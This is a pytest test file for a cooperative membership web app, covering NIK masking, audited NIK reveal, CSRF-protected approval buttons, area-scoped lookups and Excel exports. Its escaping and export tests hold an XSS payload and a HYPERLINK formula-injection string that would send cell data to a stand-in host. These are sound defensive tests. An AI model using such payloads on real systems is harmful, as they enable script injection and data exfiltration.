"""The member screens through the real app (CSRF on): forms, refusals that write nothing, escaping, masking,
status buttons, NIK reveal, counts, the member picker."""
import io
import re
from datetime import date, timedelta

from openpyxl import load_workbook
from sqlalchemy import func, select

from app.core.audit import AuditEvent
from app.core.nik import mask_nik
from app.members.models import Member, NikRegistry

from .helpers import CEMOROKANDANG, KEBON_JERUK, SUKABUMI_UTARA, coop_id, make_nik, member_form


def count(sysdb):
    sysdb.expire_all()
    return sysdb.scalar(select(func.count()).select_from(Member))


def add(s, sysdb, code=KEBON_JERUK, **over):
    data = member_form(code, **over)
    data["cooperative"] = str(coop_id(sysdb, code))
    return s.post("/anggota/add", data, form_url="/anggota/add"), data


def test_a_secretary_registers_an_application_through_the_form(login, sysdb):
    s = login("sekretaris.kebonjeruk")
    r, data = add(s, sysdb, name="Siti Aminah Form")
    assert r.status_code == 302
    m = sysdb.scalar(select(Member).where(Member.name == "Siti Aminah Form"))
    assert m.status == "permohonan" and m.member_number is None and m.rt == "003" and m.nik == data["nik"]
    assert sysdb.scalar(select(NikRegistry.member_id).where(NikRegistry.nik_hmac == m.nik_hmac)) == m.id


def test_the_form_refuses_a_malformed_nik_future_dates_and_a_foreign_domicile_with_field_messages(login, sysdb):
    s = login("sekretaris.kebonjeruk")
    tomorrow = (date.today() + timedelta(days=2)).isoformat()
    cases = [({"nik": "3173O56010900009"}, "NIK"),
             ({"join_date": tomorrow}, "masa depan"),
             ({"birth_date": tomorrow}, "masa depan"),
             ({"sex": "L", "nik": make_nik(date(1990, 8, 4), "P")}, "Jenis kelamin tidak cocok dengan NIK"),
             ({"domicile_code": SUKABUMI_UTARA}, "bukan kelurahan koperasi ini")]
    for over, expected in cases:
        before = count(sysdb)
        r, _ = add(s, sysdb, **over)
        html = r.get_data(as_text=True)
        assert r.status_code == 200, over
        assert expected in html or expected.lower() in html.lower(), (over, re.findall(r'help-block[^<]*<', html))
        assert count(sysdb) == before


def test_a_nik_already_active_in_a_cooperative_outside_the_area_is_refused_without_naming_it(login, sysdb):
    s = login("sekretaris.cemorokandang")
    r, data = add(s, sysdb, CEMOROKANDANG, name="Warga Cemorokandang")
    assert r.status_code == 302
    before = count(sysdb)
    r, _ = add(login("sekretaris.kebonjeruk"), sysdb, nik=data["nik"])
    html = r.get_data(as_text=True)
    assert r.status_code == 200 and count(sysdb) == before
    assert ("koperasi lain" in html or "another cooperative" in html) and "Cemorokandang" not in html


def test_html_typed_into_a_name_is_shown_escaped(login, sysdb):
    s = login("sekretaris.kebonjeruk")
    name = '<script>alert(1)</script>"><img src=x onerror=alert(1)>'
    r, _ = add(s, sysdb, name=name)
    assert r.status_code == 302
    m = sysdb.scalar(select(Member).where(Member.name == name))
    for url in ("/anggota/list/?_flt_2_name=script", f"/anggota/show/{m.id}"):
        html = s.get(url).get_data(as_text=True)
        assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)" in html
    assert s.get("/anggota/lookup?q=script").mimetype == "application/json"  # data, never HTML


def test_a_formula_looking_name_is_exported_as_text_and_the_nik_is_masked_in_the_export(login, sysdb):
    s = login("sekretaris.kebonjeruk")
    name = '=HYPERLINK("http://x.example/?"&A1,"klik")'
    r, data = add(s, sysdb, name=name)
    assert r.status_code == 302
    r = s.get("/anggota/export/xlsx")
    assert r.status_code == 200
    cells = [c for row in load_workbook(io.BytesIO(r.data)).active.iter_rows() for c in row if c.value is not None]
    texts = "\n".join(str(c.value) for c in cells)
    assert data["nik"] not in texts and mask_nik(data["nik"]) in texts
    cell = [c for c in cells if "HYPERLINK" in str(c.value)][0]
    assert cell.data_type == "s" and cell.value == name  # a text cell, read back as typed
    assert all(c.data_type != "f" for c in cells)


def test_the_nik_is_masked_in_list_and_show_never_prefilled_and_a_blank_nik_on_edit_keeps_it(login, sysdb):
    m = sysdb.scalar(select(Member).where(Member.cooperative_id == coop_id(sysdb, KEBON_JERUK)).order_by(Member.id))
    for username in ("admin", "sekretaris.kebonjeruk", "lurah.kebonjeruk", "sudin.jakbar"):
        s = login(username)
        for url in ("/anggota/list/?psize_MemberView=100", f"/anggota/show/{m.id}"):
            assert m.nik not in s.get(url).get_data(as_text=True), (username, url)
        assert mask_nik(m.nik) in s.get(f"/anggota/show/{m.id}").get_data(as_text=True)
    s = login("sekretaris.kebonjeruk")
    assert m.nik not in s.get(f"/anggota/edit/{m.id}").get_data(as_text=True)
    form = {"nik": "", "name": m.name, "sex": m.sex, "birth_date": m.birth_date.isoformat(), "address": m.address,
            "rt": m.rt, "rw": m.rw, "domicile_code": m.domicile_code, "phone": "0813 1111 2222",
            "occupation": "Petani", "join_date": m.join_date.isoformat()}
    r = s.post(f"/anggota/edit/{m.id}", form)
    assert r.status_code == 302
    sysdb.expire_all()
    row = sysdb.get(Member, m.id)
    assert row.nik == m.nik and row.phone == "+6281311112222" and row.occupation == "Petani"


def test_status_buttons_are_post_only_need_csrf_and_belong_to_the_pengurus(login, sysdb):
    s = login("sekretaris.kebonjeruk")
    r, _ = add(s, sysdb, name="Calon Anggota Tombol")
    m = sysdb.scalar(select(Member).where(Member.name == "Calon Anggota Tombol"))
    url = f"/anggota/status/{m.id}/approve"
    assert s.get(url).status_code == 405
    assert s.post(url, {}, form_url=f"/anggota/show/{m.id}").status_code == 403
    p = login("pengurus.kebonjeruk")
    assert p.client.post(url, data={}).status_code == 400  # no CSRF token
    sysdb.expire_all()
    assert sysdb.get(Member, m.id).status == "permohonan"
    show = p.get(f"/anggota/show/{m.id}").get_data(as_text=True)
    assert "Setujui permohonan" in show
    r = p.post(url, {"on_date": date.today().isoformat()}, form_url=f"/anggota/show/{m.id}")
    assert r.status_code == 302
    sysdb.expire_all()
    row = sysdb.get(Member, m.id)
    assert row.status == "disetujui" and row.member_number.startswith("A-")
    assert "Riwayat status" in p.get(f"/anggota/show/{m.id}").get_data(as_text=True)
    # A Lurah may look but not act, and nobody acts on a member outside their area.
    assert "Setujui" not in login("lurah.kebonjeruk").get(f"/anggota/show/{m.id}").get_data(as_text=True)
    foreign = sysdb.scalar(select(Member.id).where(Member.cooperative_id == coop_id(sysdb, CEMOROKANDANG),
                                                   Member.status == "permohonan"))
    assert p.post(f"/anggota/status/{foreign}/approve", {}, form_url="/anggota/list/").status_code == 404


def test_revealing_a_member_nik_is_audited_and_not_for_lurah_or_camat(login, sysdb):
    m = sysdb.scalar(select(Member).where(Member.cooperative_id == coop_id(sysdb, KEBON_JERUK)).order_by(Member.id))
    s = login("sekretaris.kebonjeruk")
    before = sysdb.scalar(select(AuditEvent.id).order_by(AuditEvent.id.desc())) or 0
    assert s.client.get(f"/anggota/nik/{m.id}").status_code == 405
    r = s.post(f"/anggota/nik/{m.id}", {}, form_url=f"/anggota/show/{m.id}")
    assert r.status_code == 200 and m.nik in r.get_data(as_text=True)
    assert r.headers["Cache-Control"] == "no-store"
    event = sysdb.scalar(select(AuditEvent).where(AuditEvent.id > before, AuditEvent.action == "nik_reveal"))
    assert event.username == "sekretaris.kebonjeruk" and event.table_name == "member"
    assert m.nik not in event.after
    for username in ("lurah.kebonjeruk", "camat.kebonjeruk"):
        u = login(username)
        assert "Tampilkan NIK" not in u.get(f"/anggota/show/{m.id}").get_data(as_text=True)
        assert u.post(f"/anggota/nik/{m.id}", {}, form_url="/").status_code == 403
    assert login("sudin.jakbar").post(f"/anggota/nik/{m.id}", {}, form_url="/").status_code == 200


def test_the_counts_page_shows_men_and_women_per_cooperative_in_the_users_area_only(login, sysdb):
    html = login("lurah.kebonjeruk").get("/anggota-rekap/").get_data(as_text=True)
    assert KEBON_JERUK in html and SUKABUMI_UTARA not in html and CEMOROKANDANG not in html
    html = login("sudin.jakbar").get("/anggota-rekap/").get_data(as_text=True)
    assert KEBON_JERUK in html and SUKABUMI_UTARA in html and CEMOROKANDANG not in html
    r = login("camat.kebonjeruk").get("/anggota-rekap/xlsx")
    assert r.status_code == 200
    cells = "\n".join(str(c) for row in load_workbook(io.BytesIO(r.data)).active.iter_rows(values_only=True)
                      for c in row if c is not None)
    assert KEBON_JERUK in cells and CEMOROKANDANG not in cells


def test_the_member_picker_pages_by_20_and_never_returns_members_outside_the_users_area(login, sysdb):
    foreign = {r for r in sysdb.scalars(select(Member.id).where(
        Member.cooperative_id.in_([coop_id(sysdb, SUKABUMI_UTARA), coop_id(sysdb, CEMOROKANDANG)])))}
    s = login("lurah.kebonjeruk")
    seen = []
    for page in range(1, 10):
        data = s.get(f"/anggota/lookup?q=&page={page}").json
        assert len(data["results"]) <= 20
        seen += [r["id"] for r in data["results"]]
        if not data["pagination"]["more"]:
            break
    assert seen and not set(seen) & foreign
    # Searching for a foreign member by name or number finds nothing.
    name = sysdb.scalar(select(Member.name).where(Member.id.in_(foreign)))
    assert not set(r["id"] for r in s.get(f"/anggota/lookup?q={name}").json["results"]) & foreign
    # Exact NIK search goes through its HMAC, and the answer shows it masked.
    m = sysdb.scalar(select(Member).where(Member.cooperative_id == coop_id(sysdb, KEBON_JERUK),
                                          Member.status == "aktif").order_by(Member.id))
    data = login("sekretaris.kebonjeruk").get(f"/anggota/lookup?q={m.nik}").json
    assert [r["id"] for r in data["results"]] == [m.id] and m.nik not in data["results"][0]["text"]
    assert login(None).get("/anggota/lookup?q=a").status_code in (302, 401, 403)


def test_the_member_list_page_runs_a_fixed_small_number_of_sql_statements_whatever_its_length(app, login):
    from sqlalchemy import event

    from app.extensions import db

    counts = {}
    for username in ("sekretaris.kebonjeruk", "admin"):
        s = login(username)
        for size in (5, 100):
            url = f"/anggota/list/?psize_MemberView={size}"
            s.get(url)  # warm: login and scope lookups are cached per request anyway
            statements = []
            with app.app_context():
                engine = db.engine
            listener = lambda *args: statements.append(args[2])  # noqa: E731
            event.listen(engine, "before_cursor_execute", listener)
            try:
                assert s.get(url).status_code == 200
            finally:
                event.remove(engine, "before_cursor_execute", listener)
            counts[(username, size)] = (len(statements), sum(1 for st in statements if "FROM member" in st))
    # Two statements read members (the count and one page, the cooperative joined in), whatever the page size.
    assert all(member_reads == 2 for _total, member_reads in counts.values()), counts
    assert all(counts[(u, 5)] == counts[(u, 100)] for u in ("sekretaris.kebonjeruk", "admin")), counts
    # Scoped roles are checked in memory: the whole page stays within 8 statements. (Admin is a database role;
    # FAB asks the database once per menu entry for it, which is platform behaviour, not this view's.)
    assert counts[("sekretaris.kebonjeruk", 100)][0] <= 8, counts


def test_the_pengurus_approves_several_applications_at_once_and_the_secretary_cannot(login, sysdb):
    s = login("sekretaris.kebonjeruk")
    for name in ("Massal Satu", "Massal Dua"):
        assert add(s, sysdb, name=name)[0].status_code == 302
    ids = [str(i) for i in sysdb.scalars(select(Member.id).where(Member.name.in_(["Massal Satu", "Massal Dua"])))]
    r = s.post("/anggota/action_post", {"action": "approve_many", "rowid": ids}, form_url="/anggota/list/")
    assert r.status_code in (302, 403)
    sysdb.expire_all()
    assert {sysdb.get(Member, int(i)).status for i in ids} == {"permohonan"}
    p = login("pengurus.kebonjeruk")
    r = p.post("/anggota/action_post", {"action": "approve_many", "rowid": ids}, form_url="/anggota/list/")
    assert r.status_code == 302
    sysdb.expire_all()
    seqs = sorted(sysdb.get(Member, int(i)).member_seq for i in ids)
    assert {sysdb.get(Member, int(i)).status for i in ids} == {"disetujui"} and seqs[1] == seqs[0] + 1
